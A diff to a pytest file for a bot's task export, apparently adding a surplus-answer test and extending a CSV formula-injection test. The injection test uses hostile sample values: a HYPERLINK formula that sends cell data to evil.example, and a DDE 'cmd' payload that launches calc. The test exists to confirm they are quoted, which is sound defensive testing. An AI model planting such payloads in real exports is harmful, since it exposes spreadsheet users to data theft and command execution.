@@ -19,6 +19,7 @@ from storage.database import Database
 from tasks.engine import TaskEngine
 from tasks.export import FORMULA_TRIGGERS, csv_cell
 from tasks.kinds import Kind
+from tests.clock import ManualClock
 from tests.tasks.builders import active_batch, member
 
 pytestmark = pytest.mark.usefixtures("upgraded_database")  # the bot or `db upgrade` made it
@@ -87,15 +88,19 @@ def test_each_row_carries_what_was_asked_and_the_answers_language() -> None:
     assert json.loads(cells["input"]) == picked["input"] and cells["counted"] == "true"
 
 
-@pytest.mark.parametrize("trigger", ["=", "+", "-", "@"])
+@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
 def test_member_text_and_titles_that_start_a_formula_are_quoted_in_csv(trigger: str) -> None:
     formula = f'{trigger}HYPERLINK("http://evil.example/?x="&A1,"click")'
     batch_id = answered(Kind.text, {"ada": formula}, title=f"{trigger}cmd|' /C calc'!A0")
 
     (cells,) = csv_rows(batch_id)
+    (row,) = jsonl_rows(batch_id)
+    assert [name for name, cell in cells.items() if cell.startswith(FORMULA_TRIGGERS)] == []
+    if trigger.isspace():  # what members and files write is trimmed: nothing starts with it
+        assert cells["value"] == row["value"] == formula.strip()
+        return
     assert cells["value"] == "'" + formula
     assert cells["batch_title"] == f"'{trigger}cmd|' /C calc'!A0"
-    (row,) = jsonl_rows(batch_id)
     assert row["value"] == formula and row["batch_title"] == f"{trigger}cmd|' /C calc'!A0"
 
 
@@ -152,3 +157,30 @@ def test_a_reviewed_text_answer_shows_its_votes_and_outcome() -> None:
     (row,) = jsonl_rows(batch_id)
     assert row["review_votes"] and set(row["review_votes"]) == {"spam"}
     assert row["status"] == "rejected" and row["counted"] is False
+
+
+def test_a_late_answer_to_a_full_item_exports_as_surplus_not_counted() -> None:
+    async def build() -> int:
+        db = await Database.open(DB)
+        try:
+            batch_id = await active_batch(db, Kind.choice, items=1, overlap=1, lease_seconds=60)
+            clock = ManualClock()
+            engine = TaskEngine(db, clock=clock)
+            slow, quick = await member(db, "slow"), await member(db, "quick")
+            slow_task = await engine.next_task(slow)
+            assert slow_task is not None
+            clock.advance(61)
+            quick_task = await engine.next_task(quick)  # the expired slot, leased again
+            assert quick_task is not None
+            await engine.submit(quick, quick_task.token, "no")
+            assert (await engine.submit(slow, slow_task.token, "yes")).surplus
+            return batch_id
+        finally:
+            await db.close()
+
+    batch_id = asyncio.run(build())
+
+    by_value = {row["value"]: row for row in jsonl_rows(batch_id)}
+    assert (by_value["no"]["status"], by_value["no"]["counted"]) == ("accepted", True)
+    assert (by_value["yes"]["status"], by_value["yes"]["counted"]) == ("surplus", False)
+    assert {row["value"]: row["status"] for row in csv_rows(batch_id)}["yes"] == "surplus"
